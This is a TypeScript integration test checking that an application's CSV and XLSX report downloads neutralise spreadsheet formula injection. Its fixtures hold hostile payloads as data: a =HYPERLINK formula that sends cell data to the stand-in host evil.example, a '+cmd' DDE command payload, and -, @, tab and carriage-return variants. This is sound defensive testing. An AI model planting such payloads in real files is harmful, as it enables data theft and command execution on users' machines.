// Exports safe to open (issue 17, OWASP CSV injection): a project or commune name that a
// spreadsheet would run as a formula comes out of the CSV downloads neutralised (a leading
// `'`), numbers untouched (a negative daysLate stays a number), and the XLSX downloads hold
// values only: opened with a spreadsheet parser, no cell is a formula.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { bytes, startTestApp, type TestApp } from '../helpers/app.js';
import { advance, daysAgo, makeDossier, today } from '../helpers/dossiers.js';
import { actor, type Actor } from '../helpers/factories.js';

const PROJECT = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
const COMMUNE = "+cmd|' /C calc'!A0";
const PROMOTER_LIKE = ["-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1'];

describe('exports safe to open: CSV neutralised, XLSX without formulas', () => {
  let t: TestApp;
  let admin: Actor, instructor: Actor, director: Actor, regionPartner: Actor;
  let reportingKey: string;
  const ids: Record<string, string> = {};
  const runs: Record<string, string> = {};

  async function run(type: string): Promise<{ id: string; rows: Record<string, unknown>[] }> {
    const item = (await t.http().post('/api/v1/reports/runs').set('X-API-Key', reportingKey).send({ type, date: today() }).expect(202)).body.items[0];
    for (let i = 0; i < 100; i++) {
      const r = (await t.http().get(`/api/v1/reports/runs/${item.id}`).set('X-API-Key', reportingKey).expect(200)).body;
      if (r.status === 'SUCCEEDED' && r.finishedAt) return r;
      if (r.status === 'FAILED') throw new Error(r.error);
      await new Promise((res) => setTimeout(res, 200));
    }
    throw new Error(`${type} did not finish`);
  }
  const csvOf = async (runId: string, who: { header: string; value: string }) => {
    const res = await t.http().get(`/api/v1/reports/runs/${runId}/download?format=csv`).set(who.header, who.value).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    return parse<Record<string, string>>(res.text, { columns: true });
  };
  const xlsxOf = async (runId: string, who: { header: string; value: string }) => {
    const res = await t.http().get(`/api/v1/reports/runs/${runId}/download?format=xlsx`).set(who.header, who.value).buffer(true).parse(bytes).expect(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body as never);
    return { sheet: workbook.worksheets[0] };
  };
  /** Every cell of the sheet, with what a spreadsheet would make of it. */
  const cellsOf = (sheet: ExcelJS.Worksheet) => {
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (cell) => cells.push(cell)));
    return cells;
  };
  const key = () => ({ header: 'X-API-Key', value: reportingKey });

  beforeAll(async () => {
    t = await startTestApp({ RATE_LIMIT_PER_MINUTE: '0' });
    admin = await actor(t, 'ADMIN');
    instructor = await actor(t, 'INSTRUCTOR');
    director = await actor(t, 'DIRECTOR');
    regionPartner = await actor(t, 'PARTNER', { type: 'REGION', funders: ['REGION'] });
    reportingKey = (
      await t.http().post('/api/v1/api-keys').set('Authorization', admin.auth).send({ name: 'nightly', role: 'REPORTING', organizationId: admin.organizationId }).expect(201)
    ).body.key;

    // The project is named through the API (PATCH accepts any text: the export neutralises it).
    ({ id: ids.soon, projectId: ids.project } = await makeDossier(t, instructor, { commune: { inseeCode: '43001', departmentCode: '43', name: COMMUNE } }));
    await t.http().patch(`/api/v1/projects/${ids.project}`).set('Authorization', instructor.auth).send({ name: PROJECT }).expect(200);
    // Deliverables received 50 days ago: the récépissé is due in about ten days (daysLate < 0).
    await advance(t, ids.soon, 'STEP2_IN_PROGRESS', { instructor, director });
    await t
      .http()
      .post(`/api/v1/applications/${ids.soon}/deliverables`)
      .set('Authorization', instructor.auth)
      .send({ receivedOn: daysAgo(50) })
      .expect(200);
    // Late (70 days ago, récépissé issued today): daysLate > 0, the other names of the rule.
    for (const [i, name] of PROMOTER_LIKE.entries()) {
      const { id, projectId } = await makeDossier(t, instructor, { commune: { inseeCode: `4300${i + 2}`, departmentCode: '43', name } });
      await t.http().patch(`/api/v1/projects/${projectId}`).set('Authorization', instructor.auth).send({ name }).expect(200);
      await advance(t, id, 'STEP2_IN_PROGRESS', { instructor, director });
      await t
        .http()
        .post(`/api/v1/applications/${id}/deliverables`)
        .set('Authorization', instructor.auth)
        .send({ receivedOn: daysAgo(70) })
        .expect(200);
      await t
        .http()
        .post(`/api/v1/applications/${id}/receipt`)
        .set('Authorization', director.auth)
        .send({ issuedOn: today(), finessEj: '430000123', finessEt: '430000131' })
        .expect(200);
    }
    runs.DEADLINES = (await run('DEADLINES')).id;
    runs.FOLLOW_UP = (await run('FOLLOW_UP')).id;
  }, 120_000);
  afterAll(() => t.close());

  it('neutralises the =HYPERLINK project name in the DEADLINES CSV, and keeps a negative daysLate a number', async () => {
    const rows = await csvOf(runs.DEADLINES, key());
    const soon = rows.find((r) => r.applicationId === ids.soon)!;
    expect(soon.reason).toBe('RECEIPT_DUE_SOON');
    expect(soon.projectName).toBe(`'${PROJECT}`);
    // A number is written as a number: no quote, still negative, still parses.
    expect(soon.daysLate).toMatch(/^-\d+$/);
    expect(Number(soon.daysLate)).toBeLessThan(0);
    // The other openings of OWASP's rule: -, @, tab, carriage return.
    for (const name of PROMOTER_LIKE) {
      const row = rows.find((r) => r.projectName === `'${name}`);
      expect(row).toMatchObject({ reason: 'RECEIPT_LATE' });
      expect(Number(row!.daysLate)).toBeGreaterThan(0);
    }
    // No cell of the file starts a formula.
    for (const row of rows) for (const cell of Object.values(row)) if (!/^-\d+$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }, 60_000);

  it('neutralises the +cmd commune name in the FOLLOW_UP CSV that partners download', async () => {
    for (const who of [key(), { header: 'Authorization', value: regionPartner.auth }]) {
      const rows = await csvOf(runs.FOLLOW_UP, who);
      const row = rows.find((r) => r.communeInsee === '43001')!;
      expect(row.communeName).toBe(`'${COMMUNE}`);
      expect(row.sitesInProject).toBe('1');
      for (const [i, name] of PROMOTER_LIKE.entries()) expect(rows.find((r) => r.communeInsee === `4300${i + 2}`)!.communeName).toBe(`'${name}`);
    }
  }, 60_000);

  it('writes the XLSX downloads as values: no formula in any cell, the text intact, numbers as numbers', async () => {
    const deadlines = await xlsxOf(runs.DEADLINES, key());
    const followUp = await xlsxOf(runs.FOLLOW_UP, key());
    for (const { sheet } of [deadlines, followUp]) {
      const cells = cellsOf(sheet);
      expect(cells.length).toBeGreaterThan(10);
      for (const cell of cells) {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeFalsy();
        expect(cell.hyperlink).toBeFalsy();
      }
      // Nor in what exceljs read from the file: no formula, shared formula or formula result.
      expect(cells.filter((c) => 'formula' in c.model || 'sharedFormula' in c.model || 'result' in c.model)).toEqual([]);
    }
    const header = (sheet: ExcelJS.Worksheet) => (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const rowWhere = (sheet: ExcelJS.Worksheet, column: string, value: unknown) => {
      const at = header(sheet).indexOf(column) + 1;
      let found: ExcelJS.Row | undefined;
      sheet.eachRow((row) => {
        if (row.getCell(at).value === value) found = row;
      });
      return found!;
    };
    const dh = header(deadlines.sheet);
    const soon = rowWhere(deadlines.sheet, 'applicationId', ids.soon);
    const name = soon.getCell(dh.indexOf('projectName') + 1);
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.value).toBe(PROJECT); // the text intact: in XLSX it is a value, not a formula
    const daysLate = soon.getCell(dh.indexOf('daysLate') + 1);
    expect(daysLate.type).toBe(ExcelJS.ValueType.Number);
    expect(daysLate.value).toBeLessThan(0);

    const fh = header(followUp.sheet);
    const commune = rowWhere(followUp.sheet, 'communeInsee', '43001').getCell(fh.indexOf('communeName') + 1);
    expect(commune.type).toBe(ExcelJS.ValueType.String);
    expect(commune.value).toBe(COMMUNE);
  }, 60_000);
});
